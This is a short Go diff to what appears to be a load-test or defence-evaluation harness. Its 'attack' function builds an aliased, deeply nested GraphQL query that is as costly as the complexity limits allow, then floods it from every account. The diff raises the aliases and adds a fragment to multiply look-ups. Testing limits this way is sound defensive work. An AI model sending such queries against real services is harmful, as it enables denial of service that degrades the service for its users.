@@ -120,10 +120,11 @@ func (s *stage) readWallets(ctx context.Context) (sample, error) {
 // attack sends the dearest query that fits the limits, from every account, until ctx ends.
 func (s *stage) attack(ctx context.Context, r *floodRound) error {
 	var aliases strings.Builder
-	for i := range 12 { // of fifteen orders: 1 + 12 + 180 look-ups
-		fmt.Fprintf(&aliases, " a%d: chargeOrders(first: 15) { edges { node { transaction { id } } } }", i)
+	for i := range 28 { // 1 + 28 + 28 times 6 look-ups
+		fmt.Fprintf(&aliases, " a%d: chargeOrders(first: 12) { ...f }", i)
 	}
-	body := []byte(`{"query":"{ viewer {` + aliases.String() + `} }"}`)
+	const fragment = " fragment f on ChargeOrderConnection { edges { node { product { id } virtualAccount { bank } transaction { order { product { id } transaction { id } } } } } }"
+	body := []byte(`{"query":"{ viewer {` + aliases.String() + `} }` + fragment + `"}`)
 	counts := make([][2]int, s.users*attackerConnections)
 	var group errgroup.Group
 	for i := range counts {
